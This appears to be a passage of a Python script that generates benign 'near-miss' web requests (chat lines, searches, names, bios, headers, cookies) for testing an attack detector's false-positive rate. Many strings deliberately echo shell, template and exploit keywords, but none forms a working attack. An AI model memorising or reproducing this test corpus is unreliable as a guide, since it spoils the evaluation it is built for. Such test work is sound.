    "SMTP relay is mail.example.com on 587, HELO as our domain",
    "IMAP sync for the shared inbox broke after the password change",
    "history shows someone ran the migration twice",
    "alias ll='ls -la' is in my dotfiles, want a copy?",
    "Ctrl+R searches your shell history, life changing",
    "the cron job runs at 02:00 UTC; crontab -l on the worker shows it",
    "while true loops in the test harness are capped at 30s",
    "set a timeout on the request, the default is infinite",
    "the prototype of the new dashboard is in Figma",
    "Thymeleaf or Freemarker for the email templates? I lean Thymeleaf",
    "the Handlebars partials live in views/partials",
    "Twig cache is in var/cache, clear it after deploy",
    "Razor pages are fine for the admin, no need for React there",
    "Velocity templates are still used by the legacy mailer",
    "Smarty is gone from the PHP app since 2021",
    "pug indentation errors are the worst, use the linter",
    "our Go service renders {{ .Title }} in the header template",
    "EJS partial: <%= include('header') %> stopped working after upgrade",
    "ERB tip: <%= link_to 'Home', root_path %> in the nav",
    "Mako is what Pyramid uses by default, Tornado has its own templates",
    "Nunjucks supports {% include %} just like Jinja",
    "reading a post about SSRF and cloud metadata, good refresher",
    "prototype pollution came up in the security training, slides attached",
    "the pentest report mentions path traversal on the old uploader",
    "I need the Windows box's systeminfo for the licence audit",
    "net user output shows the service account is locked",
    "ipconfig /all on my laptop shows the wrong DNS server",
    "tasklist shows Teams using 2GB again",
    "the `for` loop in the deploy script skips the last host",
    "if the build fails, check the node version first",
    "please don't rm -rf the shared cache dir again :)",
    "chmod 600 on the key file fixes the ssh warning",
    "ps aux | grep java shows three JVMs on that box",
    "df -h says the disk is 91% full on worker-3",
    "whoami on the bastion returns the right user now",
    "uname -a says kernel 6.8 on the new nodes",
    "the id_rsa key is deprecated, use ed25519",
    "our bot answers lookup user <name> in #help",
    "ticket title: login page slow on Mondays",
    "hey bot, create a reminder for the retro",
    "search results for cat food are wrong on mobile",
    "the base64 of the logo is too big for the email",
    "IEX in our world means the Investors Exchange, not PowerShell",
    "send the exchange rates as a CSV, not JSON",
    "the java.time API replaced Joda-Time in the billing service",
    "Runtime.getRuntime().availableProcessors() returns 4 in the container",
    "ObjectMapper default typing stays off, keep it that way",
    "InvokerTransformer shows up in the dependency scan as a false positive",
    "the XML export from the HR tool has a <command> element, odd name",
    "what's the Jenkins job that runs the smoke tests?",
    "Kernel update scheduled for Saturday 06:00",
    "system status page is green again",
    "the Perl one-liner from Stack Overflow worked, thanks",
    "the open() call in the uploader needs a with block",
    "Function keys don't work on the new keyboards",
    "the repeat meeting is every other week now",
    "fill in the onboarding form by Thursday please",
]
SEARCHES = [
    "cat", "cat food", "id badge", "ls", "ping pong table", "system admin", "exec assistant", "passwd reset",
    "etc", "proc", "bash", "shell oil", "powershell training", "cmd", "for", "if", "Runtime", "java",
    "JavaScript", "class of 2019", "templates", "{{name}}", "data", "http", "localhost", "127 Main St",
    "10.0.0 release", "metadata", "node", "ruby", "perl", "process", "eval", "constructor", "prototype",
    "require", "fork", "spawn", "import", "export", "who", "whoami", "uname", "env", "history", "alias", "last",
    "groups", "mount everest trip", "df", "du", "nc", "sh", "ps", "w", "od", "dd", "tee", "cut", "head", "tail",
    "find", "awk", "sed", "grep", "echo", "base64", "curl", "wget", "python", "php", "jsp", "jspx", "asp",
    ".env", "git", "svn", "htaccess", "web config", "boot ini", "win ini", "system32", "windows", "program files",
    "O'Brien", "Zoë Müller", "José García", "Łukasz", "李雷", "Søren", "D'Angelo", "Anne-Marie", "van der Berg",
    "sales team", "support@example.com", "+44 20 7946 0958", "Leeds", "München", "São Paulo", "manager",
    "intern", "admin", "engineering", "security team", "on call", "last login", "inactive users", "new hires",
    "2024-11-30", "Q4 report", "region:emea", "status:active", "role:editor", "dept=finance", "tag:java",
    "title:\"staff engineer\"", "name:ann*", "-contractor", "a & b", "r&d", "c++", "c#", ".net", "node.js",
    "vue.js", "ASP.NET", "100%", "50/50", "1+1", "(555) 010-2233", "ruby on rails", "spring boot", "jinja",
    "twig", "freemarker", "velocity", "thymeleaf", "handlebars", "mako", "pug", "nunjucks", "tornado", "razor",
    "ejs", "pebble", "go templates", "smarty", "erb",
]
NAMES = [
    "Ann O'Neil", "Ruby Castellanos", "Perl Jensen", "Java Lopez", "Jinja Tanaka", "Mako Ito", "Tornado Ross",
    "Pug McGee", "Ezra Bash", "Shelley Cat", "Chad Ping", "Dominic System", "Iris Exec", "Noor Al-Hassan",
    "François Lefèvre", "Zoë Müller", "Ólafur Arnalds", "Siobhán Ní Bhriain", "José Ángel García", "Łucja Nowak",
    "Kwame Mensah", "Aiko Sato", "Ravi Shankar", "Chloé Dubois-Martin", "D'Arcy Evans", "Mary-Kate O'Connor",
    "Dr. Anil Kapoor", "Ana Sofía de la Cruz", "Hans van den Berg", "Dmitri Ivanov", "Nguyễn Thị Mai",
    "Björk Guðmundsdóttir", "Seán Ó Súilleabháin", "Ingrid Åkesson", "Fatma Yılmaz",
]
ADDRESSES = [
    "127 Main Street, Springfield", "10 Downing Street, London SW1A 2AA", "1 Infinite Loop, Cupertino, CA",
    "Flat 3, 22 Baker St, London NW1", "Am Kupfergraben 6, 10117 Berlin", "5th Ave & 59th St, New York, NY",
    "Suite 400, 1600 Amphitheatre Pkwy", "Calle de Alcalá 50, 28014 Madrid", "PO Box 169, Perth WA 6001",
    "Unit 8/254 George St, Sydney NSW 2000", "Rue de Rivoli 99, 75001 Paris", "Bldg 2, Floor 3, Desk 127",
    "c/o Shell Centre, York Road, London", "Java House, 3 Ruby Lane, Bristol", "Perl Street 12, Oslo",
    "1-2-3 Shibuya, Shibuya-ku, Tokyo 150-0002", "Via Roma 1, 00184 Roma RM", "Kungsgatan 44, 111 35 Stockholm",
    "Room 10.0.1, Tower B", "Apt #4B, 70 Cat Rock Rd, Greenwich",
]
BIOS = [
    "Backend engineer. Java, Kotlin and a bit of Go. Runs the on-call rota.",
    "I write the Jinja and Twig templates for our marketing emails.",
    "Windows admin for 10 years; PowerShell is my happy place.",
    "Ruby on Rails dev, cat person, climber.",
    "SRE. Likes bash one-liners, dislikes pager alerts at 3am.",
    "Node.js and TypeScript. Ask me about process managers and event loops.",
    "Security team: path traversal, SSRF and other fun acronyms.",
    "Data engineer; SQLite for prototypes, Postgres for everything else.",
    "Support lead. If the system says no, I find out why.",
    "I maintain the Perl scripts nobody else wants to touch.",
    "Exec assistant to the CTO. Calendar wizard.",
    "Template designer: Handlebars, Pug, EJS — whatever the project needs.",
    "Frontend dev. {{ mustache }} fan since 2012.",
    "DevOps, Docker, Kubernetes; ex-sysadmin from the /etc days.",
    "Mail systems: SMTP, IMAP, POP3, and the occasional spam war.",
    "Ops. Favourite commands: ls, cat, grep, and coffee.",
]
SETTINGS = [
    ("display_name", "Ann (she/her)"), ("signature", "Cheers, Ann — Sales | +44 113 496 0000"),
    ("status_text", "In meetings until 3pm"), ("status_text", "On call this week 🔔"), ("timezone", "America/New_York"),
    ("timezone", "Asia/Kolkata"), ("pronouns", "they/them"), ("location", "Remote — Lisbon"),
    ("signature", "-- \nSent from my phone"), ("display_name", "José"), ("status_text", "cat sitting today"),
    ("status_text", "ping me on Slack, not email"), ("signature", "Regards,\nThe Java Team"),
    ("status_text", "out of office: back on the 3rd"), ("display_name", "D'Arcy"), ("location", "127 Main St"),
    ("status_text", "running the system tests"), ("signature", "Use {{name}} placeholders in templates"),
    ("status_text", "reading /etc/hosts docs lol"), ("display_name", "Ruby"), ("pronouns", "he/him"),
    ("status_text", "exec offsite all day"), ("location", "Shell Centre, London"), ("status_text", "back at 10:30"),
    ("signature", "Tel: (555) 010-2233 | ext. 42"), ("status_text", "debugging the powershell script"),
    ("display_name", "Perl 🦪"), ("status_text", "focus time: if urgent call me"), ("timezone", "Europe/Berlin"),
    ("status_text", "for the next hour: interviews"),
]
URLS = [
    "https://www.php.net/manual/en/function.exec.php", "https://docs.oracle.com/javase/8/docs/api/java/lang/"
    "Runtime.html", "https://nodejs.org/api/child_process.html", "https://jinja.palletsprojects.com/en/3.1.x/"
    "templates/", "https://twig.symfony.com/doc/3.x/", "https://freemarker.apache.org/docs/", "https://velocity."
    "apache.org/engine/", "https://www.thymeleaf.org/documentation.html", "https://handlebarsjs.com/guide/",
    "https://pugjs.org/api/getting-started.html", "https://mozilla.github.io/nunjucks/templating.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview", "https://learn.microsoft.com/en-us/"
    "windows-server/administration/windows-commands/for", "https://www.gnu.org/software/bash/manual/bash.html",
    "https://owasp.org/www-community/attacks/Path_Traversal", "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://logging.apache.org/log4j/2.x/security.html", "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/"
    "configuring-instance-metadata-service.html", "https://github.com/acme/api/blob/main/src/server.js",
    "https://example.com/files/report.pdf", "https://cdn.example.org/js/app.js?v=1.2.3", "https://www.ruby-lang.org/"
    "en/documentation/", "https://perldoc.perl.org/perlfunc", "https://sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321", "https://www.linkedin.com/in/ann-oneil",
    "https://calendly.com/ann-oneil/30min", "https://blog.example.com/2024/11/why-we-moved-off-eval/",
    "https://status.example.com/?component=api", "https://maps.example.com/?q=127+Main+St",
]
PATH_SEGMENTS = [
    "42", "1337", "me", "jdoe", "ann.oneil", "d'arcy.evans", "zoë.müller", "josé.garcía", "李雷", "ruby.castellanos",
    "perl.jensen", "chad.ping", "iris.exec", "shelley.cat", "export.csv", "report-2024-Q4.pdf", "avatar.png",
    "ann oneil", "team:sales", "a&b", "settings", "preferences", "sessions", "roles", "search", "cat", "id",
    "ls", "system", "exec", "bash", "java", "node", "template", "templates", "data", "metadata", "proc", "etc",
    "history", "alias", "shell", "powershell", "cmd", "for", "if", "whoami", "uname", "env", "c++", "c#",
    "100%", "50/50", "what?", "#general", "{id}", "(draft)", "~ann",
]
CLIENT_UAS = [
    "curl/8.5.0", "python-requests/2.32.3", "PostmanRuntime/7.42.0", "okhttp/4.12.0", "axios/1.7.7",
    "Go-http-client/2.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Wget/1.21.4",
    "Apache-HttpClient/4.5.14 (Java/17.0.12)", "Java/21.0.5", "Ruby", "Faraday v2.12.0", "HTTPie/3.2.4",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)", "AcmeApp/4.2.1 (iPhone; iOS 18.1; "
    "Scale/3.00)", "AcmeApp/4.2.1 CFNetwork/1568.200.51 Darwin/24.1.0", "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Microsoft Outlook 16.0.17928; Pro)", "Microsoft Office/16.0 (Windows NT 10.0; "
    "Microsoft Outlook 16.0.17928; Pro)", "Zapier", "PowerShell/7.4.6", "Mozilla/5.0 (Windows NT 10.0; "
    "Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.6", "libwww-perl/6.77", "Python/3.12 aiohttp/3.10.10",
    "Deno/2.1.1", "Bun/1.1.36", "Electron/33.2.0 AcmeDesktop/2.0.4", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
]
REFERER_PAGES = [
    "/users?q=cat", "/users?q=java+team", "/search?q=powershell+training", "/docs/templates?engine=jinja2",
    "/help/articles/how-to-reset-passwd", "/admin/users?sort=last_login&dir=desc", "/reports/weekly?week=2024-W48",
    "/users?q=O%27Brien", "/users?q=%7B%7Bname%7D%7D", "/search?q=system+status", "/settings/profile#notifications",
    "/users?q=127+Main+St", "/team/members?dept=r%26d", "/docs/api/v2/users?page=2", "/search?q=ls+vs+dir",
]
COOKIE_VALUES = [
    ("theme", "dark"), ("lang", "en-GB"), ("recent_user", "ann.oneil"), ("last_search", "cat%20food"),
    ("prefs", "%7B%22compact%22%3Atrue%7D"), ("tz", "Europe%2FLondon"), ("ui_state", "sidebar%3Dcollapsed"),
    ("last_search", "java%20team"), ("recent_user", "Z%C3%B6e"), ("last_search", "%7B%7Bname%7D%7D"),
    ("prefs", "rows%3D50%26sort%3Dname"), ("last_search", "powershell"), ("ui_state", "tab%3Dhistory"),
    ("last_search", "O%27Brien"), ("recent_user", "d%27arcy.evans"),
]


def benign() -> Iterator[dict[str, Any]]:
    gen = Gen(4184)
    n = 0
    for rec in chat_and_bio(CHAT, NAME, 1733400000):
        n += 1
        if rec["uri"] != "/slack/events":   # a bio is saved from the browser: its headers
            rec = {**rec, "headers": gen.headers("json")}
        yield rec

    def emit(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, term in enumerate(SEARCHES):
        yield emit("search", "query", gen.query(term))
        if i % 2 == 0:
            yield emit("search", "form", gen.form(term))
    for i, name in enumerate(NAMES):
        yield emit("name", "json", gen.user_json("name", name))
        yield emit("name", "json", gen.user_json("name", name, "/api/users/42", "PATCH"))
        if i % 2:
            yield emit("name", "query", gen.query(name))
    for i, addr in enumerate(ADDRESSES):
        yield emit("address", "json", gen.user_json("location", addr))
        yield emit("address", "form", gen.form(addr, uri="/me/settings", name="location"))
        if i % 2 == 0:
            yield emit("address", "query", gen.query(addr))
    for bio in BIOS:
        yield emit("bio", "json", gen.user_json("bio", bio))
        yield emit("bio", "json", gen.user_json("bio", bio, "/api/users/42", "PATCH"))
    for field, value in SETTINGS:
        yield emit("settings", "form", gen.form(value, uri="/me/settings", name=field))
    for url in URLS:
        yield emit("url", "json", gen.user_json("website", url))
        h = gen.headers("xhr")
        h["Referer"] = url
        yield emit("url", "header:Referer", {"method": "GET", "uri": "/api/users?page=1&per_page=20", "body": "",
                                             "headers": h})
    for seg in PATH_SEGMENTS:
        yield emit("path", "path", gen.path(seg))
    for ua in CLIENT_UAS:
        h = gen.headers("xhr")
        h["User-Agent"] = ua
        yield emit("ua", "header:User-Agent", {"method": "GET", "uri": "/api/users?per_page=100&page=1", "body": "",
                                               "headers": h})
    for page in REFERER_PAGES:
        h = gen.headers("xhr")
        h["Referer"] = ORIGIN + page
        yield emit("referer", "header:Referer", {"method": "GET", "uri": "/api/users?page=2&per_page=20", "body": "",
                                                 "headers": h})
    for name, value in COOKIE_VALUES:
        h = gen.headers("xhr")
        h["Cookie"] = f"{h['Cookie']}; {name}={value}"
        yield emit("cookie", "cookie", {"method": "GET", "uri": "/api/users?page=1&per_page=50", "body": "",
                                        "headers": h})
    for i, text in enumerate(CHAT[::2]):
        lead = LEAD_INS[i % len(LEAD_INS)] if i % 3 == 0 else ""
        # a Slack event with placeholder signature headers: the replayer signs benign Slack records
        yield emit("slack", "json", slack_message(lead + text, n + 1, 1733400000))
        yield emit("prose", "form", gen.form(text))


if __name__ == "__main__":
    print_records(attacks(), benign())
